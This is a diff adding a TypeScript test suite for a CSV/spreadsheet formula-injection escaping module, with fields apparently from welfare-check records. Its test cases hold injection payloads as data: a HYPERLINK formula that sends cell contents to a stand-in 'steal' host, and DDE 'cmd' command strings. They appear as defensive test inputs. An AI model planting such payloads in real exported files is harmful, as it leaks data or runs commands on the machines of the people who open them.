@@ -1,0 +1,58 @@
+import { test } from 'node:test'
+import assert from 'node:assert/strict'
+import { parse } from 'csv-parse/sync'
+import { escapeSpreadsheetCell, startsLikeFormula, toCsv, toCsvField } from './spreadsheet-escape.ts'
+
+// [input, escaped]
+const CASES: [string | null | undefined, string][] = [
+  [
+    '=HYPERLINK("http://records-export.example/steal?d="&A2&B2,"Click")',
+    `'=HYPERLINK("http://records-export.example/steal?d="&A2&B2,"Click")`,
+  ],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ['+SUM(1+1)*cmd', "'+SUM(1+1)*cmd"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+  ['\t=1+1', "'\t=1+1"],
+  ['\r=1+1', "'\r=1+1"],
+  ['\uFF1D1+1', "'\uFF1D1+1"],
+  ['-', "'-"],
+  ['Welfare check - no answer', 'Welfare check - no answer'],
+  ['a=b', 'a=b'],
+  [' =1+1', ' =1+1'],
+  ["'already quoted", "'already quoted"],
+  ['', ''],
+  [null, ''],
+  [undefined, ''],
+]
+
+for (const [input, expected] of CASES) {
+  test(`escapeSpreadsheetCell(${JSON.stringify(input)})`, () => {
+    assert.equal(escapeSpreadsheetCell(input), expected)
+    if (typeof input === 'string' && input !== '') assert.equal(startsLikeFormula(input), expected !== input)
+  })
+}
+
+test('CSV fields are escaped, then quoted when needed', () => {
+  assert.equal(toCsvField('plain'), 'plain')
+  assert.equal(toCsvField('a, b'), '"a, b"')
+  assert.equal(toCsvField('she said "no"'), '"she said ""no"""')
+  assert.equal(toCsvField('line 1\nline 2'), '"line 1\nline 2"')
+  assert.equal(toCsvField('=1+1'), "'=1+1")
+  assert.equal(toCsvField('=A1,B1'), `"'=A1,B1"`)
+})
+
+test('an exported CSV reads back with every cell as escaped text', () => {
+  const rows = [
+    ['19/12/2023', "=cmd|' /C calc'!A0", 'Card left, "urgent"'],
+    ['20/12/2023', '+SUM(1+1)*cmd', '@SUM(A1:A9)'],
+  ]
+  const csv = toCsv(['date', 'event', 'action_taken'], rows)
+  assert.ok(csv.startsWith('\uFEFFdate,event,action_taken\r\n'))
+  const back = parse(csv, { bom: true }) as string[][]
+  assert.deepEqual(back.slice(1), [
+    ['19/12/2023', "'=cmd|' /C calc'!A0", 'Card left, "urgent"'],
+    ['20/12/2023', "'+SUM(1+1)*cmd", "'@SUM(A1:A9)"],
+  ])
+  for (const cell of back.flat()) assert.equal(startsLikeFormula(cell), false, cell)
+})
